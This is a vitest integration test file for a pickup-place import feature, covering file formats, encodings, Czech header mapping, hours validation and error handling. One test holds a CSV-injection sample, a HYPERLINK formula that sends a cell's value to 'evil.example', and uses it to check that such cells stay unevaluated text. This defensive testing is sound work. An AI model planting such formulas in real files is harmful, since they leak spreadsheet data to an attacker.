import { beforeAll, describe, expect, it } from 'vitest';
import { expectProblem } from '@/testing/expect-problem';
import { fixture, imported, rowsOf, upload } from '@/testing/imports';
import { signedIn } from '@/testing/signed-in';
import { DEMO_ESHOP, type BrowserClient } from '@/testing/stack';
import { useStack } from '@/testing/use-stack';

// The upload and dry run of an import through the BFF's HTTP routes against a real sandbox: every
// format, both delimiters and all three encodings read into the same places, the mapping proposed
// from Czech and English headers, and every kind of bad file answered with a clear problem.

const stack = useStack();

describe('import dry run', () => {
  let staff: BrowserClient;
  beforeAll(async () => {
    staff = await signedIn(stack(), 'staff');
  });

  it.each([
    ['places-utf8-comma.csv', 'utf-8', ','],
    ['places-utf8bom-semicolon.csv', 'utf-8-bom', ';'],
    ['places-cp1250-semicolon.csv', 'windows-1250', ';'],
  ])('reads %s (%s, %s) with Czech headers mapped', async (name, encoding, delimiter) => {
    const result = await imported(staff, name);
    expect(result).toMatchObject({
      format: 'csv',
      encoding,
      delimiter,
      counts: { total: 3, create: 3, error: 0 },
    });
    expect(result.columns.map((c) => c.header)).toContain('Zeměpisná šířka');
    expect(result.mapping.slice(0, 8)).toEqual([
      'originPickupPlaceId',
      'name',
      'type',
      'countryCode',
      'line1',
      'city',
      'zipCode',
      'latitude',
    ]);
    const rows = await rowsOf(staff, result.id);
    expect(rows[0]).toMatchObject({ row: 2, outcome: 'create', name: 'Papírnictví U Řeky' });
    expect(rows[2]!.name).toBe('Květinářství Šťastná');
  });

  it('reads the first sheet that holds rows of an .xlsx, or the chosen one, and GeoJSON points', async () => {
    // The first sheet is a note, with no rows: the places are read from the next (issue 29).
    const first = await imported(staff, 'places.xlsx');
    expect(first).toMatchObject({ sheet: 'Pobočky', sheets: ['Poznámky', 'Pobočky'], counts: { create: 3 } });
    const note = await upload(staff, 'places.xlsx', fixture('places.xlsx'), { sheet: 'Poznámky' });
    expectProblem(note, 400, '/problems/import-file');
    expect(note.data.properties).toMatchObject({ reason: 'empty', sheets: ['Poznámky', 'Pobočky'] });
    const xlsx = await imported(staff, 'places.xlsx', { sheet: 'Pobočky' });
    expect(xlsx).toMatchObject({
      format: 'xlsx',
      sheet: 'Pobočky',
      sheets: ['Poznámky', 'Pobočky'],
      counts: { total: 3, create: 3, error: 0 },
    });
    const geo = await imported(staff, 'places.geojson');
    expect(geo).toMatchObject({ format: 'geojson', counts: { total: 3, create: 3, error: 0 } });
    expect(geo.mapping[geo.columns.findIndex((c) => c.header === 'latitude')]).toBe('latitude');
  });

  it('reads a week in the opening_hours syntax', async () => {
    const result = await imported(staff, 'places-osm-hours.csv');
    expect(result.mapping.at(-1)).toBe('openingHours');
    expect(result.counts).toMatchObject({ create: 2, error: 0 });
  });

  it('stores real hours text with what the reader said of it, and refuses a guess (issue 43)', async () => {
    // The screen is Czech: a Hungarian shop's `So` (its country names no day names) is Saturday.
    const result = await imported(staff, 'places-osm-hours-notes.csv', {}, { 'accept-language': 'cs' });
    expect(result.counts).toMatchObject({ total: 4, create: 3, error: 1, hoursNoted: 3 });
    const rows = new Map((await rowsOf(staff, result.id)).map((r) => [r.originPickupPlaceId, r]));
    const hoursNote = (origin: string) => rows.get(origin)!.notes.find((n) => n.kind === 'hours');
    expect(hoursNote('OSM-10')).toEqual({
      kind: 'hours',
      target: 'openingHours',
      column: 'opening_hours',
      warnings: [{ code: 'day_names', detail: 'So|Sa|cs' }],
    });
    // A fallback rule keeps the weekdays as written (hours-cells.test.ts), and says what is not kept.
    expect(hoursNote('OSM-11')!.warnings).toContainEqual({ code: 'unknown', detail: 'by appointment' });
    expect(hoursNote('OSM-13')!.warnings).toEqual([{ code: 'day_names', detail: 'So|Sa|cs' }]);
    // `SB` at a Czech place the package reads as Tuesday: a guess, not stored.
    expect(rows.get('OSM-12')!.errors).toEqual([
      expect.objectContaining({
        column: 'opening_hours',
        reason: 'hours_guessed',
        detail: expect.stringContaining('read as Tuesday'),
        warnings: expect.arrayContaining([expect.objectContaining({ code: 'checker' })]),
      }),
    ]);
    // Checked again from an English screen, the Hungarian shop's `So` is no day of the syntax: refused.
    const english = await staff.fetch(`/bff/imports/${result.id}/mapping`, {
      method: 'PUT',
      json: { mapping: result.mapping, defaults: {} },
      headers: { 'accept-language': 'en' },
    });
    expect(english.status, english.text).toBe(200);
    expect(english.data.counts).toMatchObject({ create: 2, error: 2, hoursNoted: 2 });
    const again = new Map((await rowsOf(staff, result.id)).map((r) => [r.originPickupPlaceId, r]));
    expect(again.get('OSM-13')!.errors.map((e) => e.reason)).toEqual(['invalid_hours']);
    expect(again.get('OSM-10')!.notes).toContainEqual(expect.objectContaining({ kind: 'hours' }));
  });

  it.each([
    ['empty.csv', 400, 'empty'],
    ['header-only.csv', 400, 'empty'],
    ['text-named.xlsx', 400, 'wrong_format'],
    ['xlsx-named.csv', 400, 'wrong_format'],
    ['garbage.csv', 400, 'wrong_format'],
    ['open-quote.csv', 400, 'unclosed_quote'],
  ])('refuses %s as a whole', async (name, status, reason) => {
    const res = await upload(staff, name, fixture(name));
    expectProblem(res, status, '/problems/import-file');
    expect(res.data.properties.reason).toBe(reason);
  });

  it('reports a feature that is not a point as its own row’s error, not the whole file’s (issue 43)', async () => {
    const result = await imported(staff, 'not-points.geojson');
    expect(result.counts).toMatchObject({ total: 1, error: 1 });
    const [row] = await rowsOf(staff, result.id);
    expect(row!.errors).toContainEqual({
      column: null,
      target: null,
      reason: 'not_a_point',
      detail: 'LineString',
    });
    expect(row!.errors.map((e) => e.target)).not.toContain('latitude');
  });

  it('refuses binary garbage without a name that says what it is', async () => {
    const res = await upload(staff, 'upload', fixture('garbage.csv'));
    expect(res.data.properties.reason).toBe('binary');
  });

  it('names the rows of a ragged CSV', async () => {
    const result = await imported(staff, 'ragged.csv');
    expect(result.counts).toMatchObject({ total: 3, create: 1, error: 2 });
    const errors = await rowsOf(staff, result.id, 'error');
    expect(errors.map((r) => [r.row, r.errors[0]!.reason])).toEqual([
      [3, 'ragged_row'],
      [4, 'ragged_row'],
    ]);
  });

  it('imports formula-like cells as text, never evaluated', async () => {
    const result = await imported(staff, 'formula.csv');
    expect(result.counts).toMatchObject({ create: 3, error: 0 });
    const rows = await rowsOf(staff, result.id);
    expect(rows.map((r) => r.name)).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1;"Klikni")',
      '=1+2', // the export's leading apostrophe is taken off again
      'Květinářství Šťastná',
    ]);
    const xlsx = await rowsOf(staff, (await imported(staff, 'formula.xlsx')).id);
    expect(xlsx[0]!.name).toBe('=HYPERLINK("http://evil.example","Klikni")');
  });

  it('makes both rows of a duplicate originPickupPlaceId errors', async () => {
    const result = await imported(staff, 'duplicate-origin.csv');
    const errors = await rowsOf(staff, result.id, 'error');
    expect(errors.map((r) => [r.row, r.errors[0]])).toEqual([
      [2, { column: 'Kód', target: 'originPickupPlaceId', reason: 'duplicate_origin_id' }],
      [4, { column: 'Kód', target: 'originPickupPlaceId', reason: 'duplicate_origin_id' }],
    ]);
  });

  it('refuses the id of another e-shop’s place and an unknown id', async () => {
    const result = await imported(staff, 'other-eshop-id.csv');
    expect(result.counts).toMatchObject({ create: 1, error: 2 });
    const errors = await rowsOf(staff, result.id, 'error');
    expect(errors.map((r) => r.errors[0]!.reason)).toEqual(['unknown_id', 'unknown_id']);
  });

  it('names row, column and reason of invalid values, and checks again under a fixed mapping', async () => {
    const result = await imported(staff, 'two-bad-rows.csv');
    expect(result.counts).toMatchObject({ total: 3, error: 3 }); // the zip code's column is not mapped
    const zip = result.columns.findIndex((c) => c.header === 'Poštovní směrovací číslo');
    expect(result.mapping[zip]).toBeNull();
    const mapping = [...result.mapping];
    mapping[zip] = 'zipCode';
    const fixed = await staff.fetch(`/bff/imports/${result.id}/mapping`, {
      method: 'PUT',
      json: { mapping },
    });
    expect(fixed.status, fixed.text).toBe(200);
    expect(fixed.data.counts).toMatchObject({ create: 1, error: 2 });
    const errors = await rowsOf(staff, result.id, 'error');
    expect(errors.map((r) => [r.row, r.errors.map((e) => [e.column, e.reason])])).toEqual([
      [3, [['Typ', 'not_allowed']]],
      [4, [['Pondělí', 'invalid_hours']]],
    ]);
  });

  it('fills what an ordinary file leaves out with the mapping’s defaults (issue 29)', async () => {
    // No type, country or storage kind column; "Úložná doba" mapped; row 3's storage time empty.
    const result = await imported(staff, 'ordinary-cz.csv');
    expect(result.mapping.at(-1)).toBe('storageTimeInDays');
    // No hours either: never stored closed unless the user chooses it (issue 43).
    expect(result).toMatchObject({ defaults: {}, counts: { total: 2, error: 2, withoutHours: 2 } });
    const defaults = {
      type: 'PARCEL_SHOP',
      countryCode: 'CZ',
      storageTimeInDays: 7,
      storageTimeType: 'BUSINESS_DAYS',
      missingHours: 'closed',
    };
    const put = await staff.fetch(`/bff/imports/${result.id}/mapping`, {
      method: 'PUT',
      json: { mapping: result.mapping, defaults },
    });
    expect(put.status, put.text).toBe(200);
    expect(put.data).toMatchObject({ defaults, counts: { total: 2, create: 2, error: 0 } });
    expect((await staff.fetch(`/bff/imports/${result.id}`)).data.defaults).toEqual(defaults);
    const bad = await staff.fetch(`/bff/imports/${result.id}/mapping`, {
      method: 'PUT',
      json: { mapping: result.mapping, defaults: { type: 'CASTLE', storageTimeInDays: 0 } },
    });
    expectProblem(bad, 400);
  });

  it('shows old → new for a row that changes a place (issue 29)', async () => {
    const found = await staff.fetch(`/bff/places/search?eshopId=${DEMO_ESHOP}&size=1`);
    const place = found.data.items[0] as { originPickupPlaceId: string; name: string };
    const csv = `Kód;Název\r\n${place.originPickupPlaceId};${place.name} (nový)\r\n`;
    const res = await upload(staff, 'rename.csv', new TextEncoder().encode(csv));
    expect(res.status, res.text).toBe(201);
    expect(res.data.counts).toMatchObject({ update: 1 });
    const [row] = await rowsOf(staff, res.data.id);
    expect(row!.changes).toEqual([{ field: 'name', before: place.name, after: `${place.name} (nový)` }]);
  });

  it('refuses a file over the size limit while it streams, with no server error', async () => {
    // A 50 MiB line: the body is generated as it is sent, and the BFF stops keeping it at 20 MiB.
    const line = new Blob([fixture('places-utf8-comma.csv'), new Uint8Array(50 * 1024 * 1024).fill(0x61)]);
    const res = await upload(staff, 'long-line.csv', line);
    expectProblem(res, 413);
    expect(res.data.properties.reason).toBe('too_large');
  });

  it('is for staff with the right to change places, in a managed e-shop', async () => {
    const support = await signedIn(stack(), 'support');
    expectProblem(await upload(support, 'places-utf8-comma.csv', fixture('places-utf8-comma.csv')), 403);
    const other = await upload(staff, 'places-utf8-comma.csv', fixture('places-utf8-comma.csv'), {
      eshopId: 'bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbb9',
    });
    expectProblem(other, 404);
  });

  it('serves templates whose headers map by themselves and whose rows are new places', async () => {
    for (const extension of ['csv', 'xlsx']) {
      const res = await fetch(`${stack().bffUrl}/bff/imports/template.${extension}`, {
        headers: { cookie: staff.cookie },
      });
      expect(res.status).toBe(200);
      const file = new Uint8Array(await res.arrayBuffer());
      const result = await upload(staff, `template.${extension}`, file);
      expect(result.status, result.text).toBe(201);
      expect(result.data.counts).toMatchObject({ total: 2, create: 2, error: 0 });
      expect(result.data.mapping).not.toContain(null);
    }
  });
});
